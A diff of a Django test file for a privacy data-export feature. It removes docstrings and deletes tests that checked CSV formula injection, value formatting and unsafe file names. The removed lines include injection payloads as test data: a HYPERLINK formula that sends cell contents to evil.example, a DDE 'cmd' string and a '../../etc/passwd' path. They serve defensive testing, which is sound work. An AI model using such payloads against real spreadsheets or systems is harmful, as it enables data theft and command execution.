@@ -1,12 +1,11 @@
-"""A copy is for one person, kept nowhere, and holds what she wrote as it is."""
+"""(c) A copy is for who proved an address just now, and is kept nowhere.
 
-import csv
-import hashlib
+WordPress builds a ZIP with a long name in a folder of the web server, where
+whoever has its address may fetch it for three days.
+"""
+
 import io
-import json
-import re
 import tempfile
-import zipfile
 from datetime import timedelta
 
 import pytest
@@ -15,8 +14,6 @@ from django.utils import timezone
 
 from privacy import tokens
 from privacy.models import DataSubjectRequest
-from privacy.subjects import package
-from privacy.subjects.package.table import exact
 from tests import make
 from tests.defects.whole import whole
 
@@ -24,31 +21,11 @@ from tests.defects.whole import whole
 pytestmark = pytest.mark.django_db
 
 
-def copy_of(email):
-    content = b''.join(package.stream([email], now=timezone.now()))
-    archive = zipfile.ZipFile(io.BytesIO(content))
-    return {name: archive.read(name) for name in archive.namelist()}
-
-
-def rows_in_json(files, kind='contact.Enquiry'):
-    kinds = json.loads(files['data.json'])['kinds']
-    return next(each['rows'] for each in kinds if each['kind'] == kind)
-
-
-def rows_in_csv(files, kind='contact.Enquiry'):
-    text = files[f'csv/{kind}.csv'].decode('utf-8-sig')
-    return list(csv.DictReader(io.StringIO(text, newline='')))
-
-
-# --- (c) An export whose address is enough ------------------------------------
-
-
 def copy_link(**changes):
     return f'/privacy/me/{tokens.make("me", make.dsr(**changes).pk)}/copy/'
 
 
 def test_a_copy_is_not_to_be_had_by_an_address(client):
-    """(c) WordPress: who knows or guesses the URL of the ZIP has the data."""
     link = copy_link()
 
     assert client.get(link).status_code == 405
@@ -72,7 +49,6 @@ def be_erased():
 
 @pytest.mark.parametrize('happen', [grow_old, lose_the_proof, be_erased])
 def test_a_copy_needs_a_proof_that_is_fresh(client, happen):
-    """(c) WordPress: the file lies there for days, whatever happens."""
     link = copy_link()
 
     happen()
@@ -82,7 +58,6 @@ def test_a_copy_needs_a_proof_that_is_fresh(client, happen):
 
 @pytest.mark.parametrize('purpose', ['case', 'proof', 'stop', 'subscribe'])
 def test_a_copy_needs_a_link_that_was_made_for_it(client, purpose):
-    """(c) WordPress: no other letter of ours is a key to the data."""
     token = tokens.make(purpose, make.dsr().pk)
 
     assert client.post(f'/privacy/me/{token}/copy/').status_code == 410
@@ -104,7 +79,6 @@ def disks(settings, tmp_path, monkeypatch):
 
 
 def test_a_copy_lies_nowhere_while_it_is_read_or_after(client, disks):
-    """(c) WordPress: a ZIP under uploads, and all of it in a row beside."""
     make.enquiry(message='Build me an engine. ' * 200)
     link = copy_link()
     files, rows = disks(), whole(but=['privacy_auditevent'])
@@ -120,144 +94,8 @@ def test_a_copy_lies_nowhere_while_it_is_read_or_after(client, disks):
 
 
 def test_nobody_on_the_way_keeps_a_copy(client):
-    """(c) WordPress: a cache in front serves it to the next one who asks."""
     headers = client.post(copy_link()).headers
 
     assert headers['Cache-Control'] == 'no-store'
     assert headers['Referrer-Policy'] == 'no-referrer'
     assert 'ETag' not in headers
-
-
-# --- (e) Formulas in CSV, and values as Python shows them ---------------------
-
-FORMULAS = [
-    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
-    '+1+cmd|" /C calc"!A0',
-    '-2+3',
-    '@SUM(1+1)',
-    '\t=1+1',
-    '\r=1+1',
-    '＝1+1',
-    'x";=1+1',
-    "'=1+1",
-]
-CALCULATES = re.compile(r'[=+\-@＝＋－＠\t\r]')
-
-
-@pytest.mark.parametrize('formula', FORMULAS)
-def test_no_spreadsheet_calculates_what_somebody_wrote(formula):
-    """(e) gdpr-assist: a message that begins with = runs on opening."""
-    make.enquiry(name=formula, message=formula)
-
-    files = copy_of(make.ADA)
-
-    raw = files['csv/contact.Enquiry.csv'].decode('utf-8-sig')
-    # Wherever a spreadsheet of any country may begin a cell.
-    cells = re.split('[;,"\t\r\n]', raw)
-    assert not [cell for cell in cells if CALCULATES.match(cell)]
-    (row,) = rows_in_csv(files)
-    assert not CALCULATES.match(row['message'])
-
-
-@pytest.mark.parametrize('formula', FORMULAS)
-def test_and_all_the_same_nothing_is_lost(formula):
-    """(e) gdpr-assist: taking characters away would be no true copy."""
-    make.enquiry(message=formula)
-
-    files = copy_of(make.ADA)
-
-    assert rows_in_json(files)[0]['message'] == formula
-    assert exact(rows_in_csv(files)[0]['message']) == formula
-
-
-def test_values_are_said_as_json_says_them():
-    """(e) gdpr-assist: str() makes None a word and a moment ambiguous."""
-    make.enquiry()
-    make.colleague()
-
-    files = copy_of(make.ADA)
-
-    (enquiry,) = rows_in_json(files)
-    assert enquiry['acknowledged_at'] is None
-    assert re.fullmatch(r'\d{4}-.*T.*\+00:00', enquiry['received_at'])
-    (account,) = rows_in_json(files, 'privacy.StaffMember')
-    assert account['is_active'] is True
-
-
-def test_no_table_and_no_page_speaks_python():
-    """(e) gdpr-assist: "None", "True", "<Wording: Wording 3>"."""
-    make.enquiry()
-    make.consent()
-    make.colleague()
-    make.dsr()
-
-    files = copy_of(make.ADA)
-
-    tables = [text for name, text in files.items() if name.endswith('.csv')]
-    for text in [*tables, files['index.html']]:
-        words = set(re.split(r'[^\w.<>]+', text.decode()))
-        assert not words & {'None', 'True', 'False', 'datetime.datetime'}
-        assert not re.search(rb' object at 0x|&lt;\w+: |<\w+: ', text)
-
-
-def test_columns_stand_in_one_order():
-    """(e) gdpr-assist: a set of names puts them anew in every export."""
-    make.enquiry()
-    make.enquiry(name='')
-
-    first, second = rows_in_csv(copy_of(make.ADA))
-
-    declared = ['id', *type(make.enquiry()).personal_data.fields]
-    assert list(first) == list(second) == declared
-
-
-# --- (o) Something with a space in its name, exported as nothing --------------
-
-NAMES = [
-    'Ada Lovelace',
-    '  two  spaces\tand a tab ',
-    '../../etc/passwd',
-    'C:\\temp\\CON.txt',
-    'a/b?c#d%20e&f;g"h\'i',
-    '<b>Ąžuolas</b> Š. 𝒜da 👩‍🔬',
-    'x' * 100,
-]
-
-
-@pytest.mark.parametrize('name', NAMES)
-def test_a_name_of_any_shape_arrives_whole(name):
-    """(o) fides: an attachment with a space in its name came as 0 bytes."""
-    make.enquiry(name=name, message=f'{name}\n{name}')
-
-    files = copy_of(make.ADA)
-
-    (row,) = rows_in_json(files)
-    assert (row['name'], row['message']) == (name, f'{name}\n{name}')
-    (cells,) = rows_in_csv(files)
-    assert exact(cells['name']) == name
-
-
-@pytest.mark.parametrize('name', NAMES)
-def test_no_file_of_a_copy_is_named_by_a_person(client, name):
-    """(o) fides: so no name can break the archive or leave its folder."""
-    make.enquiry(name=name)
-    plain = re.compile(r'(csv/)?[A-Za-z]+(\.[A-Za-z]+)?\.(json|html|csv)')
-
-    assert all(map(plain.fullmatch, copy_of(make.ADA)))
-    attached = client.post(copy_link()).headers['Content-Disposition']
-    assert re.fullmatch(r'attachment; filename="[\w.-]+"', attached)
-
-
-@pytest.mark.parametrize('name', NAMES)
-def test_no_file_of_a_copy_is_empty_or_other_than_it_says(name):
-    """(o) fides: the package said nothing of the file that was lost."""
-    make.enquiry(name=name)
-
-    files = copy_of(make.ADA)
-
-    listed = json.loads(files.pop('manifest.json'))['files']
-    assert {file['name'] for file in listed} == set(files)
-    for file in listed:
-        content = files[file['name']]
-        assert len(content) == file['size'] > 0
-        assert hashlib.sha256(content).hexdigest() == file['sha256']
